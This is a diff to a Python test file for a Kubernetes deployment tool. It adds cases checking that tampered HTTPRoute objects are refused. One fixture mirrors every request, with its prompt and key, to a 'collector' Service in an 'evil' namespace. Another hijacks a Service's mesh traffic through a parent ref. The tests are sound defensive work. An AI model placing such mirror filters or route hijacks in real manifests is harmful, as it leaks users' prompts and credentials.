@@ -40,6 +40,26 @@ def ours(kind: str = "Deployment", name: str = RELEASE, **meta: Any) -> dict[str
     obj = {"apiVersion": kinds.api_version(kind), "kind": kind, "metadata": metadata}
     if kind == conventions.PROMETHEUS_RULE_KIND:
         obj["spec"] = {"groups": []}  # what it holds is checked too (tests/test_observability.py)
+    if kind == conventions.HTTP_ROUTE_KIND:
+        obj["spec"] = {"rules": [{"backendRefs": [{"name": RELEASE, "port": 8000}]}]}  # where it sends, too
+    return obj
+
+
+def route(*backends: Any) -> dict[str, Any]:
+    return {**ours(conventions.HTTP_ROUTE_KIND), "spec": {"rules": [{"backendRefs": list(backends)}]}}
+
+
+def mirrored() -> dict[str, Any]:
+    """The release's route with a filter that copies every request (prompt and key) to another Service."""
+    obj = route({"name": RELEASE, "port": 8000})
+    mirror = {"backendRef": {"name": "collector", "namespace": "evil", "port": 80}}
+    obj["spec"]["rules"][0]["filters"] = [{"type": "RequestMirror", "requestMirror": mirror}]
+    return obj
+
+
+def parent(ref: dict[str, str]) -> dict[str, Any]:
+    obj = route({"name": RELEASE, "port": 8000})
+    obj["spec"]["parentRefs"] = [ref]  # a Service parent takes over that Service's mesh traffic (GAMMA)
     return obj
 
 
@@ -133,6 +153,15 @@ def cluster_role_binding() -> dict[str, Any]:
             "Secret/llama3-70b in namespace inference is not a kind",
         ),
         (["not", "an", "object"], "object #2 is not a Kubernetes object"),
+        # A route sends a Gateway's requests (its hostnames') wherever it says, and a filter may mirror them.
+        (route({"name": "payments", "port": 80}), "its backend is not the release's Service llama3-70b"),
+        (route({"name": RELEASE, "namespace": "payments", "port": 80}), "its backend is not the release's Service"),
+        (route({"name": RELEASE, "kind": "Backend", "group": "x.io"}), "its backend is not the release's Service"),
+        (route({"name": RELEASE}, {"name": f"{RELEASE}-canary"}), "a rule is not the one backend deployctl renders"),
+        (route("not a backend"), "its backend is not the release's Service"),
+        (mirrored(), "a rule is not the one backend deployctl renders"),
+        (parent({"group": "", "kind": "Service", "name": "payments"}), "a parent is not a Gateway"),
+        ({**ours(conventions.HTTP_ROUTE_KIND), "spec": None}, "its spec is not an object"),
     ],
 )
 def test_an_object_outside_the_release_is_refused_as_tampering_exit_9(obj: Any, says: str) -> None:
@@ -147,6 +176,8 @@ def test_an_object_outside_the_release_is_refused_as_tampering_exit_9(obj: Any, 
 
 def test_the_release_own_objects_pass() -> None:
     confine.check(RELEASE, NS, [ours(k) for k in kinds.RELEASE_KINDS], "the rendered profile")
+    gateway = {"group": "gateway.networking.k8s.io", "kind": "Gateway", "name": "gw", "namespace": "gateways"}
+    confine.check(RELEASE, NS, [parent(gateway)], "the rendered profile")
 
 
 def test_stored_manifests_that_are_not_yaml_objects_are_tampering_not_a_traceback() -> None:
